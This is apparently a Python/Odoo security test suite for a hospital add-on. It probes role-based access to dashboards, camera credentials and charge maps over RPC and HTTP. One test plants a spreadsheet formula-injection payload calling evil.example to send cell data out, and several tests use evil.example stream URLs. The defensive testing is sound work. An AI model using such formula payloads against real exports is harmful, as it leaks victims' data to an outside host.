"""Security review of issue 15 (operations analysis, camera links, HIS charge
classes and daily summaries): attacks over RPC (JSON-RPC call_kw as the web
client sends it, XML-RPC) and over the HTTP routes, as each role.

Tests named `test_fixed_*` are the holes the review found (a camera, a
charge class map or a charge line moved to another hospital, an archived
camera opened, a formula in the XLSX export, dates the calendar cannot hold,
clinicians rewriting the HIS's first/return mark), fixed since; every other
test is an attack that was refused from the start."""

import io
import json
import xmlrpc.client
from datetime import date
from urllib.parse import urlencode

import openpyxl

from odoo import fields
from odoo.addons.ihospital_base.tests.common import RpcMixin
from odoo.addons.ihospital_his.tests.common import HisCase
from odoo.addons.ihospital_his.tests.test_his_analysis_data import VISIT
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .common import PERIOD, AnalysisCase

DAY = "ihospital.analysis.day"
DASH = "ihospital.analysis.dashboard"
CAMERA = "ihospital.camera"
ACCESS = "odoo.exceptions.AccessError"
USER_ERROR = "odoo.exceptions.UserError"
SECRET_USER, SECRET_PASS = "cam-viewer-QZ7", "cam-Secret-8842"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class AttackMixin(RpcMixin):
    def login(self, user):
        self.authenticate(user.login, user.login)

    def refused(self, model, method, args, kwargs=None, names=(ACCESS,)):
        result, error = self._call(model, method, args, kwargs)
        self.assertFalse(result, f"{model}.{method} answered {result!r}")
        self.assertIn(error.get("name"), names, error)
        return error

    def ok(self, model, method, args, kwargs=None):
        result, error = self._call(model, method, args, kwargs)
        self.assertFalse(error, error)
        return result

    def xmlrpc(self, user, model, method, args, kwargs=None):
        return self.xmlrpc_object.execute_kw(self.env.cr.dbname, user.id, user.login, model, method, args, kwargs or {})


@tagged("post_install", "-at_install")
class TestReviewAnalysisAttacks(AttackMixin, HttpCase, AnalysisCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Day = cls.env[DAY].sudo()
        Day._ihospital_rebuild(cls.hospital | cls.hospital_2, date(2026, 2, 27), date(2026, 3, 2))
        rows = Day.search([])
        cls.rows_1 = rows.filtered(lambda r: r.company_id == cls.hospital)
        cls.rows_2 = rows.filtered(lambda r: r.company_id == cls.hospital_2)
        cls.rows_surgery = cls.rows_1.filtered(lambda r: r.department_id == cls.surgery)
        cls.rows_cardio = cls.rows_1.filtered(lambda r: r.department_id == cls.cardiology)
        assert cls.rows_surgery and cls.rows_cardio and cls.rows_2, "the rebuild made rows for the attacks"
        # the attackers may export (else export_data stops at "no export
        # right" before the record rules are tried)
        export = cls.env.ref("base.group_allow_export")
        (cls.user_doctor | cls.user_head | cls.user_director_2 | cls.user_nurse).write({"groups_id": [(4, export.id)]})

    # ------------------------------------------------------------ nobody / outsiders
    def _outsider_refused(self, user):
        self.login(user)
        ids = self.rows_1.ids
        self.refused(DAY, "search_read", [[]], {"fields": ["visits", "charges_total"]})
        self.refused(DAY, "search_count", [[]])
        self.refused(DAY, "read", [ids, ["charges_total"]])
        self.refused(DAY, "read_group", [[], ["charges_total:sum"], ["department_id"]])
        self.refused(DAY, "web_read_group", [[], ["charges_total:sum"], ["department_id"]])
        self.refused(DAY, "export_data", [ids, ["charges_total", "department_id/name"]], names=(ACCESS, USER_ERROR))
        self.refused(DAY, "name_search", [""])
        self.refused(DAY, "web_search_read", [[]], {"specification": {"charges_total": {}}})
        self.refused(DASH, "get_dashboard", [], PERIOD)
        self.refused(DASH, "export_xlsx", [], PERIOD)
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "context": {"ihospital_scope": "hospital"}})
        self.refused(CAMERA, "get_dashboard_cameras", [], names=(ACCESS, None))

    def test_nurse_reads_no_figure(self):
        self._outsider_refused(self.user_nurse)
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode(PERIOD)}")
        self.assertEqual(response.status_code, 403)

    def test_portal_user_reads_no_figure(self):
        self._outsider_refused(self.user_portal)
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode(PERIOD)}")
        self.assertNotEqual(response.headers.get("Content-Type"), XLSX)
        self.assertIn(response.status_code, (403, 404))

    def test_public_visitor_reads_no_figure(self):
        self.authenticate(None, None)
        _result, error = self._call(DASH, "get_dashboard", [], PERIOD)
        self.assertEqual(error.get("name"), "odoo.http.SessionExpiredException", error)
        _result, error = self._call(DAY, "search_read", [[]], {"fields": ["visits"]})
        self.assertEqual(error.get("name"), "odoo.http.SessionExpiredException", error)
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode(PERIOD)}", allow_redirects=False)
        self.assertIn(response.status_code, (302, 303))
        self.assertIn("/web/login", response.headers["Location"])

    def test_nurse_over_xmlrpc(self):
        with self.assertRaises(xmlrpc.client.Fault), mute_logger("odoo.http"):
            self.xmlrpc(self.user_nurse, DAY, "search_read", [[]], {"fields": ["charges_total"]})
        with self.assertRaises(xmlrpc.client.Fault), mute_logger("odoo.http"):
            self.xmlrpc(self.user_nurse, DASH, "get_dashboard", [], PERIOD)

    # ------------------------------------------------------------ doctor
    def test_doctor_reads_own_rows_only(self):
        self.login(self.user_doctor)
        rows = self.ok(DAY, "search_read", [[]], {"fields": ["doctor_id", "department_id", "charges_total"]})
        self.assertTrue(rows)
        self.assertEqual({row["doctor_id"][0] for row in rows}, {self.emp_doctor.id})
        # related paths in the domain only filter what the rules already let through
        leak = self.ok(
            DAY,
            "search_read",
            [["|", ("department_id.manager_id.user_id", "!=", False), ("doctor_id", "=", self.emp_surgeon.id)]],
            {"fields": ["doctor_id"]},
        )
        self.assertEqual({row["doctor_id"][0] for row in leak} - {self.emp_doctor.id}, set())
        self.assertEqual(self.ok(DAY, "search_count", [[("department_id", "=", self.surgery.id)]]), 0)
        self.refused(DAY, "read", [self.rows_surgery.ids, ["charges_total"]])
        self.refused(DAY, "export_data", [self.rows_surgery.ids, ["charges_total"]])
        groups = self.ok(DAY, "read_group", [[], ["charges_total:sum"], ["department_id"]], {"lazy": False})
        self.assertEqual({g["department_id"][0] for g in groups if g["department_id"]}, {self.cardiology.id})
        groups = self.ok(DAY, "web_read_group", [[], ["charges_total:sum"], ["doctor_id"]], {"lazy": False})
        self.assertEqual({g["doctor_id"][0] for g in groups["groups"] if g["doctor_id"]}, {self.emp_doctor.id})
        # ordering on another model's field does not leak either
        ordered = self.ok(DAY, "search_read", [[]], {"fields": ["doctor_id"], "order": "department_id desc"})
        self.assertEqual(len(ordered), len(rows))

    def test_doctor_dashboard_scope(self):
        self.login(self.user_doctor)
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "department_id": self.cardiology.id})
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "doctor_id": self.emp_surgeon.id})
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "doctor_id": self.emp_head.id})
        self.refused(DASH, "export_xlsx", [], {**PERIOD, "doctor_id": self.emp_surgeon.id})
        # another hospital's ids: unknown, nothing of them told
        error = self.refused(DASH, "get_dashboard", [], {**PERIOD, "doctor_id": self.emp_doctor_2.id}, (USER_ERROR,))
        self.assertNotIn("Dr He", error.get("message", ""))
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "department_id": self.general_2.id}, (USER_ERROR,))
        # context keys do not widen the scope
        context = {
            "ihospital_scope": "hospital",
            "ihospital_level": "hospital",
            "ihospital_analysis_all": True,
            "active_test": False,
            "su": True,
            "allowed_company_ids": [self.hospital.id],
        }
        data = self.ok(DASH, "get_dashboard", [], {**PERIOD, "context": context})
        self.assertEqual(data["scope"]["level"], "doctor")
        self.assertEqual([d["id"] for d in data["scope"]["doctors"]], [self.emp_doctor.id])
        self.assertEqual({row["doctor_id"] for row in data["workload"]}, {self.emp_doctor.id})
        # the XLSX route with the same filters
        query = urlencode({**PERIOD, "doctor_id": self.emp_surgeon.id})
        self.assertEqual(self.url_open(f"/ihospital/analysis/export.xlsx?{query}").status_code, 403)

    def test_doctor_dashboard_has_no_money(self):
        # a doctor's answer carries the workload only: no money section, no
        # charges by class, no money series in the trend. (The analysis rows
        # a doctor may search_read do carry charges_total / insurance_amount
        # of his or her own visits: the same amounts the doctor reads on
        # those visits, so no other department's or doctor's figure.)
        self.login(self.user_doctor)
        data = self.ok(DASH, "get_dashboard", [], PERIOD)
        self.assertEqual([section["key"] for section in data["sections"]], ["workload", "satisfaction"])
        self.assertEqual(data["charges_by_class"], [])
        self.assertFalse({"charges_total", "insurance_amount"} & {s["key"] for s in data["trend"]["series"]})
        rows = self.ok(DAY, "search_read", [[]], {"fields": ["doctor_id", "charges_total"]})
        self.assertEqual({row["doctor_id"][0] for row in rows}, {self.emp_doctor.id})

    # ------------------------------------------------------------ department head
    def test_head_reads_own_departments_rows_only(self):
        self.login(self.user_head)
        rows = self.ok(DAY, "search_read", [[]], {"fields": ["doctor_id", "department_id", "company_id"]})
        self.assertTrue(rows)
        for row in rows:
            self.assertTrue(
                (row["department_id"] and row["department_id"][0] == self.cardiology.id)
                or (row["doctor_id"] and row["doctor_id"][0] == self.emp_head.id),
                row,
            )
        self.refused(DAY, "read", [self.rows_surgery.ids, ["charges_total"]])
        self.refused(DAY, "read", [self.rows_2.ids, ["charges_total"]])
        groups = self.ok(
            DAY, "web_read_group", [[("department_id", "=", self.surgery.id)], ["charges_total:sum"], ["date:day"]]
        )
        self.assertFalse(groups["groups"], groups)
        self.assertEqual(self.ok(DAY, "search_count", [[("company_id", "=", self.hospital_2.id)]]), 0)

    def test_head_dashboard_and_drill_down_scope(self):
        self.login(self.user_head)
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "department_id": self.surgery.id})
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "doctor_id": self.emp_surgeon.id})
        self.refused(DASH, "export_xlsx", [], {**PERIOD, "department_id": self.surgery.id})
        query = urlencode({**PERIOD, "department_id": self.surgery.id})
        self.assertEqual(self.url_open(f"/ihospital/analysis/export.xlsx?{query}").status_code, 403)
        data = self.ok(DASH, "get_dashboard", [], PERIOD)
        self.assertEqual([d["id"] for d in data["scope"]["departments"]], [self.cardiology.id])
        self.assertNotIn(self.emp_surgeon.id, [d["id"] for d in data["scope"]["doctors"]])
        drills = [f["drill"] for s in data["sections"] for f in s["figures"] if f.get("drill")]
        self.assertTrue(drills)
        for drill in drills:
            # every drill-down is narrowed to the headed department (the
            # charge lines' through their visits)
            self.assertIn(f'"department_id", "in", [{self.cardiology.id}]', json.dumps(drill["domain"]), drill)
        # the drill-down's domain edited in the browser: the visits' own rules still scope it
        visits = self.ok(
            "ihospital.visit", "search_read", [[("department_id", "=", self.surgery.id)]], {"fields": ["id"]}
        )
        self.assertFalse(visits, "a head sees another department's visits")
        charges = self.ok(DASH, "get_dashboard", [], PERIOD)["charges_by_class"]
        self.assertEqual(sum(c["amount"] for c in charges), 300.0, "cardiology's charges only")

    # ------------------------------------------------------------ director / quality / admin
    def test_director_cannot_switch_to_another_hospital(self):
        self.login(self.user_director)
        context = {"allowed_company_ids": [self.hospital_2.id]}
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "context": context})
        self.refused(DAY, "search_read", [[]], {"fields": ["visits"], "context": context})
        context = {"allowed_company_ids": [self.hospital.id, self.hospital_2.id]}
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "context": context})
        # the other hospital's ids: unknown
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "department_id": self.general_2.id}, (USER_ERROR,))
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "doctor_id": self.emp_doctor_2.id}, (USER_ERROR,))
        self.refused(DAY, "read", [self.rows_2.ids, ["charges_total"]])
        self.assertEqual(self.ok(DAY, "search_count", [[("company_id", "=", self.hospital_2.id)]]), 0)
        # active_test=False shows no other hospital's row either
        rows = self.ok(DAY, "search_read", [[]], {"fields": ["company_id"], "context": {"active_test": False}})
        self.assertEqual({row["company_id"][0] for row in rows}, {self.hospital.id})

    def test_director_of_the_second_hospital(self):
        self.login(self.user_director_2)
        self.refused(DAY, "read", [self.rows_1.ids, ["charges_total"]])
        self.refused(DAY, "export_data", [self.rows_1.ids, ["charges_total"]])
        groups = self.ok(DAY, "read_group", [[], ["charges_total:sum"], ["company_id"]], {"lazy": False})
        self.assertEqual({g["company_id"][0] for g in groups}, {self.hospital_2.id})
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "department_id": self.cardiology.id}, (USER_ERROR,))
        self.refused(DASH, "get_dashboard", [], {**PERIOD, "context": {"allowed_company_ids": [self.hospital.id]}})
        names = self.ok("hr.department", "name_search", ["Cardiology"])
        self.assertFalse(names)

    def test_bad_types_and_huge_periods(self):
        self.login(self.user_director)
        errors = (USER_ERROR, "odoo.exceptions.ValidationError")
        for kwargs in (
            {"period": "custom", "date_from": "1926-01-01", "date_to": "2026-01-01"},  # 100 years
            {"period": "custom", "date_from": "0001-01-01", "date_to": "9999-12-31"},
            {"period": "custom", "date_from": "2026-03-02", "date_to": "2026-03-01"},
            {"period": "custom", "date_from": 20260301, "date_to": "2026-03-02"},
            {"period": "custom", "date_from": ["2026-03-01"], "date_to": "2026-03-02"},
            {"period": "custom"},
            {"period": "decade"},
            {"period": ["today"]},
            {**PERIOD, "department_id": str(self.cardiology.id)},
            {**PERIOD, "department_id": [self.cardiology.id, self.general_2.id]},
            {**PERIOD, "department_id": True},
            {**PERIOD, "doctor_id": {"id": 1}},
            {**PERIOD, "department_id": -1},
            {**PERIOD, "department_id": 2**40},
        ):
            with self.subTest(kwargs=kwargs):
                self.refused(DASH, "get_dashboard", [], kwargs, errors)
        response = self.url_open(
            "/ihospital/analysis/export.xlsx?"
            + urlencode({"period": "custom", "date_from": "1926-01-01", "date_to": "2026-01-01"})
        )
        self.assertEqual(response.status_code, 400)
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode({**PERIOD, 'department_id': 'x'})}")
        self.assertEqual(response.status_code, 400)

    def test_fixed_xlsx_formula_injection(self):
        # HOLE (low, formula injection): doctors' and departments' names come
        # from the HIS (master.doctors, master.departments) and the
        # administrators; the spreadsheet writes them with xlsxwriter's
        # write_row(), which turns a string starting with "=" into a
        # formula (strings_to_formulas defaults to True). A name such as
        # =HYPERLINK("https://evil.example/?"&C2,"Dr Li") runs in the
        # director's Excel/WPS. FAILS BY DESIGN until the workbook is made
        # with {"strings_to_formulas": False} (or names are written with
        # write_string).
        self.emp_doctor.sudo().name = '=HYPERLINK("https://evil.example/?"&C2,"Dr Li")'
        self.login(self.user_director)
        response = self.url_open(f"/ihospital/analysis/export.xlsx?{urlencode(PERIOD)}")
        self.assertEqual(response.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[3]
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        injected = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
        self.assertTrue(injected, [cell.value for cell in cells])
        self.assertEqual({cell.data_type for cell in injected}, {"s"}, "a doctor's name became a formula")

    def test_fixed_extreme_dates_crash(self):
        # HOLE (low, robustness): a one-day custom period on 0001-01-01 (or
        # 9999-12-31) passes the checks of _ihospital_custom_period, then
        # the period before / the year before overflow: OverflowError or
        # ValueError (year 0), not a UserError (a server error logged with
        # its traceback for a request anyone with the dashboard can send).
        # FAILS BY DESIGN until
        # the custom period's dates are bounded (e.g. 1900..2100).
        self.login(self.user_director)
        for day in ("0001-01-01", "9999-12-31"):
            self.refused(
                DASH, "get_dashboard", [], {"period": "custom", "date_from": day, "date_to": day}, (USER_ERROR,)
            )

    def test_nobody_writes_the_rows(self):
        row = self.rows_cardio[:1]
        for user in (self.user_director, self.user_quality, self.user_admin, self.user_head, self.user_doctor):
            with self.subTest(user=user.login):
                self.login(user)
                self.refused(DAY, "write", [row.ids, {"charges_total": 1}])
                self.refused(DAY, "create", [{"company_id": self.hospital.id, "date": "2026-03-01", "visits": 999}])
                self.refused(DAY, "unlink", [row.ids])
                self.refused(DAY, "copy", [row.ids])
        self.assertNotEqual(row.charges_total, 1)

    def test_private_engine_methods_unreachable(self):
        self.login(self.user_admin)
        for model, method, args in (
            (DAY, "_ihospital_refresh", [[[self.hospital_2.id, "2026-03-01"]]]),
            (DAY, "_ihospital_rebuild", []),
            (DAY, "_ihospital_refresh_marked", []),
            (DASH, "_ihospital_scope", [None, None]),
            (DASH, "_ihospital_aggregate", [None, None, None, None]),
            (DASH, "_ihospital_xlsx", [{}]),
            (CAMERA, "_ihospital_open_stream", []),
            ("ihospital.charge.class.map", "_reclassify", [[]]),
            ("ihospital.his.daily.summary", "_ihospital_upsert", [1, "2026-03-01", False, {}]),
        ):
            with self.subTest(method=method):
                _result, error = self._call(model, method, args)
                self.assertIn("Private methods", error.get("message", ""), error)

    def test_xmlrpc_doctor_and_head(self):
        rows = self.xmlrpc(self.user_doctor, DAY, "search_read", [[]], {"fields": ["doctor_id"]})
        self.assertEqual({row["doctor_id"][0] for row in rows}, {self.emp_doctor.id})
        with self.assertRaises(xmlrpc.client.Fault), mute_logger("odoo.http"):
            self.xmlrpc(self.user_head, DASH, "get_dashboard", [], {**PERIOD, "department_id": self.surgery.id})
        with self.assertRaises(xmlrpc.client.Fault), mute_logger("odoo.http"):
            self.xmlrpc(self.user_head, DAY, "read", [self.rows_surgery.ids, ["charges_total"]])

    def test_quality_and_admin_see_their_hospital_only(self):
        for user in (self.user_quality, self.user_admin):
            with self.subTest(user=user.login):
                self.login(user)
                data = self.ok(DASH, "get_dashboard", [], PERIOD)
                self.assertEqual(data["scope"]["level"], "hospital")
                self.assertEqual(data["scope"]["company"]["id"], self.hospital.id)
                rows = self.ok(DAY, "search_read", [[]], {"fields": ["company_id"]})
                self.assertEqual({row["company_id"][0] for row in rows}, {self.hospital.id})


@tagged("post_install", "-at_install")
class TestReviewCameraAttacks(AttackMixin, HttpCase, AnalysisCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Camera = cls.env[CAMERA].sudo()
        director = cls.env.ref("ihospital_base.group_director")
        doctor = cls.env.ref("ihospital_base.group_doctor")
        base = {"stream_username": SECRET_USER, "stream_password": SECRET_PASS}
        cls.cam_director = Camera.create(
            {
                "name": "Pharmacy",
                "company_id": cls.hospital.id,
                "stream_url": "https://cams.example.org/pharmacy/index.m3u8?user={username}&token={password}",
                "rtsp_url": "rtsp://192.0.2.11:554/ch1",
                "group_ids": [(6, 0, director.ids)],
                **base,
            }
        )
        cls.cam_doctor = Camera.create(
            {
                "name": "Ward corridor",
                "company_id": cls.hospital.id,
                "stream_url": "https://cams.example.org/ward/index.m3u8",
                "group_ids": [(6, 0, doctor.ids)],
                **base,
            }
        )
        cls.cam_archived = Camera.create(
            {
                "name": "Old gate",
                "company_id": cls.hospital.id,
                "rtsp_url": "rtsp://192.0.2.12:554/ch1",
                "group_ids": [(6, 0, director.ids)],
                **base,
            }
        )
        cls.cam_archived.active = False
        export = cls.env.ref("base.group_allow_export")
        (cls.user_doctor | cls.user_director | cls.user_quality).write({"groups_id": [(4, export.id)]})
        cls.cam_other = Camera.create(
            {
                "name": "Community hall",
                "company_id": cls.hospital_2.id,
                "stream_url": "https://cams.example.org/community/index.m3u8",
                "group_ids": [(6, 0, director.ids)],
                **base,
            }
        )

    def assertNoSecret(self, value):
        text = json.dumps(value, default=str)
        self.assertNotIn(SECRET_USER, text)
        self.assertNotIn(SECRET_PASS, text)

    def page(self, camera):
        return self.url_open(f"/ihospital/camera/{camera.id}", allow_redirects=False)

    def test_credentials_never_leave_over_rpc(self):
        ids = (self.cam_director | self.cam_doctor).ids
        creds = ["stream_username", "stream_password"]
        self.login(self.user_admin)
        self.assertNoSecret(self.ok(CAMERA, "read", [ids, creds + ["has_credentials", "stream_url"]]))
        self.assertNoSecret(self.ok(CAMERA, "search_read", [[]], {"fields": creds}))
        self.assertNoSecret(self.ok(CAMERA, "web_read", [ids], {"specification": {name: {} for name in creds}}))
        self.assertNoSecret(self.ok(CAMERA, "export_data", [ids, creds]))
        self.assertNoSecret(
            self.ok(
                CAMERA,
                "onchange",
                [[], {"name": "x", "stream_username": False}, [], {"stream_username": {}, "stream_password": {}}],
            )
        )
        self.assertNoSecret(self.ok(CAMERA, "fields_get", [], {"attributes": ["string", "help"]}))
        self.assertNoSecret(self.ok(CAMERA, "name_search", [""]))
        self.assertNoSecret(self.ok(CAMERA, "get_dashboard_cameras", []))
        # probing: no domain, order or grouping reaches the stored columns
        for field in ("stream_username", "stream_password"):
            self.refused(CAMERA, "search", [[(field, "=", SECRET_USER)]], names=(USER_ERROR, "builtins.ValueError"))
        for column in ("stream_login", "stream_secret"):
            self.refused(
                CAMERA, "search_read", [[(column, "like", "cam")]], {"fields": ["id"]}, ("builtins.ValueError",)
            )
            self.refused(CAMERA, "search_read", [[]], {"fields": ["id"], "order": column}, ("builtins.ValueError",))
            self.refused(
                CAMERA, "read_group", [[], ["id:count"], [column]], names=("builtins.ValueError", "builtins.KeyError")
            )
        self.refused(
            CAMERA,
            "read_group",
            [[], ["id:count"], ["stream_username"]],
            names=("builtins.ValueError", USER_ERROR, "builtins.KeyError"),
        )
        # a copy made by the administrator takes no credentials along (and shows none)
        copy_ids = self.ok(CAMERA, "copy", [[self.cam_director.id]])
        self.assertNoSecret(self.ok(CAMERA, "read", [copy_ids, creds]))

    def test_credentials_fields_refused_to_other_roles(self):
        for user in (self.user_director, self.user_doctor, self.user_quality):
            with self.subTest(user=user.login):
                self.login(user)
                self.refused(CAMERA, "read", [self.cam_doctor.ids, ["stream_username"]])
                self.refused(CAMERA, "search_read", [[]], {"fields": ["stream_password"]})
                self.refused(CAMERA, "export_data", [self.cam_doctor.ids, ["stream_password"]])
                self.refused(CAMERA, "write", [self.cam_doctor.ids, {"stream_url": "https://evil.example/x.m3u8"}])
                self.refused(CAMERA, "action_forget_credentials", [self.cam_doctor.ids])

    def test_camera_route_by_role(self):
        self.login(self.user_director)
        response = self.page(self.cam_director)
        self.assertEqual(response.status_code, 200)
        self.assertIn(SECRET_PASS, response.text)
        self.assertEqual(response.headers.get("Cache-Control"), "no-store")
        log = (
            self.env["ihospital.access.log"]
            .sudo()
            .search([("res_model", "=", CAMERA), ("user_id", "=", self.user_director.id)])
        )
        self.assertTrue(log, "the opening is logged")
        self.assertEqual(self.page(self.cam_other).status_code, 404)
        for user, camera in (
            (self.user_nurse, self.cam_doctor),
            (self.user_nurse, self.cam_director),
            (self.user_doctor, self.cam_director),
            (self.user_head, self.cam_director),
            (self.user_portal, self.cam_director),
            (self.user_director_2, self.cam_director),
        ):
            with self.subTest(user=user.login, camera=camera.name):
                self.login(user)
                response = self.page(camera)
                self.assertEqual(response.status_code, 404)
                self.assertNotIn(SECRET_PASS, response.text)
        self.login(self.user_doctor)
        self.assertEqual(self.page(self.cam_doctor).status_code, 200)
        self.authenticate(None, None)
        response = self.page(self.cam_director)
        self.assertIn(response.status_code, (302, 303))
        self.assertNotIn(SECRET_PASS, response.text)
        # the nurse asks the RPC way
        self.login(self.user_nurse)
        self.refused(CAMERA, "search_read", [[]], {"fields": ["stream_url"]})

    def test_fixed_archived_camera_still_opens(self):
        # HOLE (low): an administrator archives a camera to take it off the
        # dashboards, but /ihospital/camera/<id> still serves it (and its
        # credentials) to anyone who kept or guesses the id: the route
        # checks exists() and the read rules, not `active`. FAILS BY DESIGN
        # until the route answers 404 for an archived camera.
        self.login(self.user_director)
        response = self.page(self.cam_archived)
        self.assertEqual(response.status_code, 404, "an archived camera still opens with its credentials")

    def test_fixed_admin_moves_camera_to_another_hospital(self):
        # HOLE (medium, cross-hospital write): the administrator of hospital 1
        # writes company_id = hospital 2 on a camera of his own: Odoo checks
        # record rules before a write, not on the new values, and the model
        # has no _check_company_auto / check on company_id. The camera (a
        # stream address the admin chose) then shows on hospital 2's
        # dashboards and opens for its directors. FAILS BY DESIGN until the
        # write is refused (a constraint: company_id in the writer's
        # companies, or company_id not writable).
        self.login(self.user_admin)
        _result, error = self._call(CAMERA, "write", [self.cam_director.ids, {"company_id": self.hospital_2.id}])
        self.cam_director.invalidate_recordset()
        self.assertTrue(error, "the write was accepted")
        self.assertEqual(self.cam_director.company_id, self.hospital)

    def test_admin_cannot_create_a_camera_in_another_hospital(self):
        self.login(self.user_admin)
        self.refused(
            CAMERA,
            "create",
            [{"name": "Planted", "company_id": self.hospital_2.id, "stream_url": "https://evil.example/a.m3u8"}],
        )
        self.refused(CAMERA, "read", [self.cam_other.ids, ["name"]])
        self.refused(CAMERA, "write", [self.cam_other.ids, {"stream_url": "https://evil.example/a.m3u8"}])
        # a user name put into the address is refused (it would be shown to viewers)
        self.refused(
            CAMERA,
            "create",
            [{"name": "Leaky", "company_id": self.hospital.id, "stream_url": "https://u:p@cams.example.org/a.m3u8"}],
            names=("odoo.exceptions.ValidationError",),
        )
        # shown to nurses or portal users: refused
        nurse = self.env.ref("ihospital_base.group_nurse")
        portal = self.env.ref("base.group_portal")
        for group in (nurse, portal):
            self.refused(
                CAMERA,
                "write",
                [self.cam_director.ids, {"group_ids": [(4, group.id)]}],
                names=("odoo.exceptions.ValidationError",),
            )


@tagged("post_install", "-at_install")
class TestReviewHisAttacks(AttackMixin, HttpCase, HisCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Map = cls.env["ihospital.charge.class.map"].sudo()
        cls.map_1 = Map.create({"company_id": cls.hospital.id, "his_category": "检查费", "charge_class": "exam"})
        cls.line_2 = (
            cls.env["ihospital.visit.charge"]
            .sudo()
            .create({"visit_id": cls.visit_2.id, "name": "CT", "category": "检查费", "amount": 300})
        )
        Summary = cls.env["ihospital.his.daily.summary"].sudo()
        cls.sum_cardio, _c = Summary._ihospital_upsert(
            cls.hospital, date(2026, 1, 10), cls.cardiology, {"admissions": 3}
        )
        cls.sum_surgery, _c = Summary._ihospital_upsert(cls.hospital, date(2026, 1, 10), cls.surgery, {"admissions": 5})
        cls.sum_hospital, _c = Summary._ihospital_upsert(
            cls.hospital, date(2026, 1, 10), cls.env["hr.department"], {"outpatient_visits": 900}
        )
        cls.sum_2, _c = Summary._ihospital_upsert(cls.hospital_2, date(2026, 1, 10), cls.general_2, {"admissions": 1})
        cls.user_director_2 = new_test_user(
            cls.env,
            login="t_director_2",
            groups="ihospital_base.group_director",
            company_id=cls.hospital_2.id,
            company_ids=[cls.hospital_2.id],
        )
        cls.user_admin_2 = new_test_user(
            cls.env,
            login="t_admin_2",
            groups="ihospital_base.group_admin",
            company_id=cls.hospital_2.id,
            company_ids=[cls.hospital_2.id],
        )

    # ------------------------------------------------------------ charge class maps
    def test_charge_class_map_rights(self):
        MAP = "ihospital.charge.class.map"
        for user in (self.user_nurse, self.user_doctor, self.user_head, self.user_portal, self.user_gateway):
            with self.subTest(user=user.login):
                self.login(user)
                self.refused(MAP, "search_read", [[]], {"fields": ["his_category"]})
        for user in (self.user_director, self.user_quality):
            with self.subTest(user=user.login):
                self.login(user)
                rows = self.ok(MAP, "search_read", [[]], {"fields": ["company_id"]})
                self.assertEqual({row["company_id"][0] for row in rows}, {self.hospital.id})
                self.refused(MAP, "write", [self.map_1.ids, {"charge_class": "drug"}])
                self.refused(
                    MAP, "create", [{"company_id": self.hospital.id, "his_category": "x", "charge_class": "drug"}]
                )
                self.refused(MAP, "unlink", [self.map_1.ids])
        self.login(self.user_admin)
        rows = self.ok(MAP, "search_read", [[]], {"fields": ["company_id"], "context": {"active_test": False}})
        self.assertEqual({row["company_id"][0] for row in rows}, {self.hospital.id})
        self.refused(
            MAP, "create", [{"company_id": self.hospital_2.id, "his_category": "检查费", "charge_class": "drug"}]
        )
        self.refused(
            MAP,
            "create",
            [{"his_category": "检查费2", "charge_class": "drug"}],
            {"context": {"allowed_company_ids": [self.hospital_2.id]}},
        )
        self.assertEqual(self.line_2.charge_class, "other")

    def test_fixed_admin_moves_charge_map_to_another_hospital(self):
        # HOLE (medium, cross-hospital write): the administrator of hospital 1
        # writes company_id = hospital 2 on one of hospital 1's maps. Record
        # rules are checked before the write only and the model checks
        # nothing on company_id: the map now belongs to hospital 2 and
        # _reclassify() rewrites hospital 2's charge lines of that category
        # (its drug share, its charges by class) in SQL. FAILS BY DESIGN
        # until company_id is refused (readonly after create, or a check
        # that the new company is one of the writer's).
        self.login(self.user_admin)
        _result, error = self._call(
            "ihospital.charge.class.map", "write", [self.map_1.ids, {"company_id": self.hospital_2.id}]
        )
        self.line_2.invalidate_recordset()
        self.assertEqual(self.line_2.charge_class, "other", "hospital 2's line was reclassified by hospital 1")
        self.assertTrue(error, "the write was accepted")

    def test_fixed_admin_moves_charge_line_to_another_hospital(self):
        # HOLE (medium, cross-hospital write; the model predates issue 15 but
        # its lines now make hospital 2's charges by class and drug share):
        # the administrator of hospital 1 writes visit_id = a visit of
        # hospital 2 on one of hospital 1's charge lines. Rules are checked
        # before the write only, visit_id has no check_company: the line
        # (and its stored company_id) moves to hospital 2. FAILS BY DESIGN
        # until the write is refused (check_company on visit_id with
        # _check_company_auto, or visit_id readonly after create).
        line = (
            self.env["ihospital.visit.charge"]
            .sudo()
            .create({"visit_id": self.visit_cardio.id, "name": "planted", "category": "检查费", "amount": 5000})
        )
        self.login(self.user_admin)
        _result, error = self._call("ihospital.visit.charge", "write", [line.ids, {"visit_id": self.visit_2.id}])
        line.invalidate_recordset()
        self.assertEqual(line.company_id, self.hospital, "a line of hospital 1 now bills a visit of hospital 2")
        self.assertTrue(error, "the write was accepted")

    def test_admin_cannot_move_visit_to_another_hospital(self):
        # refused, unlike the maps, the charge lines and the cameras (see
        # the holes): the visit keeps its hospital even with a department of
        # hospital 2 and no doctor
        self.login(self.user_admin)
        # with a department and no doctor of hospital 2 (the clinic
        # constraint checks only that they agree with each other)
        vals = {"company_id": self.hospital_2.id, "department_id": self.general_2.id, "doctor_id": False}
        _result, error = self._call("ihospital.visit", "write", [self.visit_cardio.ids, vals])
        self.visit_cardio.invalidate_recordset()
